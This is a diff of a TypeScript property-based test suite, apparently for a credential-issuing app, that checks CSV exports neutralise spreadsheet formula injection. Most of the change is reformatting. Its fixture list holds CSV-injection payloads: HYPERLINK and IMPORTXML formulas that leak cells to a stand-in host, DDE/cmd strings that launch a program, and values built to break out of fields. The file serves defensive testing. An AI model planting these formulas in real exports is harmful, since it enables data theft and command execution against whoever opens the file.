@@ -41,8 +41,14 @@ const shows = (cell: string | undefined, value: string) => cell === value || cel
 
 const triggers = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', ' =', '\t=', '\r\n=', '  @');
 const payloads = fc.constantFrom(
-  'HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
-  '1+1', 'SUM(A1:A9)', 'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")', '2+5+cmd|\' /C calc\'!A0', "A1&'x'",
+  'HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+  "cmd|' /C calc'!A0",
+  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+  '1+1',
+  'SUM(A1:A9)',
+  'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+  "2+5+cmd|' /C calc'!A0",
+  "A1&'x'",
 );
 const breakouts = fc.constantFrom('x","=1+1', 'x";=1+1', 'x,=1+1', 'x;=1+1', 'x\r\n=1+1', 'x\n@SUM(1)', '"=1+1"', '\'"=1', 'x"\t=1');
 const hostile = fc.oneof(
@@ -72,7 +78,11 @@ describe('X3 CSV exports neutralise formulas', () => {
 
   function neutralised(rows: string[][], where: string): string[] {
     const out: string[] = [];
-    rows.forEach((r, i) => r.forEach((c, j) => { if (!isInert(c)) out.push(`${where}: row ${i}, column ${j}: ${JSON.stringify(c)}`); }));
+    rows.forEach((r, i) =>
+      r.forEach((c, j) => {
+        if (!isInert(c)) out.push(`${where}: row ${i}, column ${j}: ${JSON.stringify(c)}`);
+      }),
+    );
     return out;
   }
 
@@ -92,21 +102,40 @@ describe('X3 CSV exports neutralise formulas', () => {
         const i = start + k;
         const prefix = ['=', '+', '-', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'][i % 7]!;
         let name: string;
-        try { name = normalizeName(v, 'name', 200); } catch { name = `Accepté ${i}`; }
+        try {
+          name = normalizeName(v, 'name', 200);
+        } catch {
+          name = `Accepté ${i}`;
+        }
         let email: string;
-        try { email = normalizeEmail(`${prefix}${i}.x3@example.org`); } catch { email = `x3.${i}@example.org`; }
+        try {
+          email = normalizeEmail(`${prefix}${i}.x3@example.org`);
+        } catch {
+          email = `x3.${i}@example.org`;
+        }
         return { v, i, name, email };
       });
       const template = templates[start / 50]!;
-      const issued = await issueBatch(deps, w.issuer('A'), { org: w.orgA, template, version: template.version, recipients: batch.map((b) => ({
-        name: b.name, email: b.email, learnerId: `L${b.i}`, locale: 'fr' as const, fields: { note: 'A' },
-      })) });
+      const issued = await issueBatch(deps, w.issuer('A'), {
+        org: w.orgA,
+        template,
+        version: template.version,
+        recipients: batch.map((b) => ({
+          name: b.name,
+          email: b.email,
+          learnerId: `L${b.i}`,
+          locale: 'fr' as const,
+          fields: { note: 'A' },
+        })),
+      });
       for (const [k, x] of issued.entries()) {
         const b = batch[k]!;
         // The raw value everywhere the input rules would have refused it (defence in depth), and in the learner id.
         const rawName = b.v;
         const rawEmail = b.i % 3 === 0 ? `${b.v.slice(0, 60)}@example.org` : b.email;
-        sqlite.prepare('update awards set recipient_name = ?, recipient_email = ?, learner_id = ? where id = ?').run(rawName, rawEmail, b.v.slice(0, 100), x.award.id);
+        sqlite
+          .prepare('update awards set recipient_name = ?, recipient_email = ?, learner_id = ? where id = ?')
+          .run(rawName, rawEmail, b.v.slice(0, 100), x.award.id);
         expected.set(x.credentialId, { name: rawName, email: rawEmail, learnerId: b.v.slice(0, 100) });
         if (b.i % 5 === 0) {
           sqlite.prepare("update mail_outbox set status = 'dead', attempts = 8, last_error = ? where id = ?").run(b.v, x.award.mailId);
@@ -130,14 +159,26 @@ describe('X3 CSV exports neutralise formulas', () => {
       const want = expected.get(r[col(fr.credentialId)]!);
       if (!want) continue;
       found++;
-      for (const [k, title] of [['name', fr.name], ['email', fr.email], ['learnerId', fr.learnerId]] as const) {
+      for (const [k, title] of [
+        ['name', fr.name],
+        ['email', fr.email],
+        ['learnerId', fr.learnerId],
+      ] as const) {
         if (!shows(r[col(title)], want[k])) missing.push(`${k}: ${JSON.stringify(r[col(title)])} for ${JSON.stringify(want[k])}`);
       }
     }
     expect(missing).toEqual([]);
     expect(found).toBe(COUNT);
-    for (const tpl of templates) expect(data.some((r) => shows(r[col(fr.template)], tpl.content.name.fr!)), tpl.content.name.fr).toBe(true);
-    for (const m of mails) expect(data.some((r) => shows(r[col(fr.lastError)], m)), m).toBe(true);
+    for (const tpl of templates)
+      expect(
+        data.some((r) => shows(r[col(fr.template)], tpl.content.name.fr!)),
+        tpl.content.name.fr,
+      ).toBe(true);
+    for (const m of mails)
+      expect(
+        data.some((r) => shows(r[col(fr.lastError)], m)),
+        m,
+      ).toBe(true);
   });
 
   it('results.csv: the cells of an uploaded file (invalid rows as typed) and the issued rows', async () => {
@@ -148,8 +189,15 @@ describe('X3 CSV exports neutralise formulas', () => {
     values.forEach((v, i) => {
       lines.push(i % 2 ? [quote(v), quote(`${v.slice(0, 30)}@x`), 'A', ''].join(';') : [quote(v), `=ok.${i}@example.org`, 'A', ''].join(';'));
     });
-    const job = await createImport(deps, w.issuer('A'), { slug: w.orgA.slug, templateId: w.res.A.template.id, bytes: Buffer.from(`${lines.join('\r\n')}\r\n`, 'utf8') });
-    const stored = sqliteOf(t).prepare('select row_no, cells from issuance_rows where job_id = ? order by row_no').all(job.id) as { row_no: number; cells: string }[];
+    const job = await createImport(deps, w.issuer('A'), {
+      slug: w.orgA.slug,
+      templateId: w.res.A.template.id,
+      bytes: Buffer.from(`${lines.join('\r\n')}\r\n`, 'utf8'),
+    });
+    const stored = sqliteOf(t).prepare('select row_no, cells from issuance_rows where job_id = ? order by row_no').all(job.id) as {
+      row_no: number;
+      cells: string;
+    }[];
     expect(stored).toHaveLength(COUNT);
 
     const check = async (label: string) => {
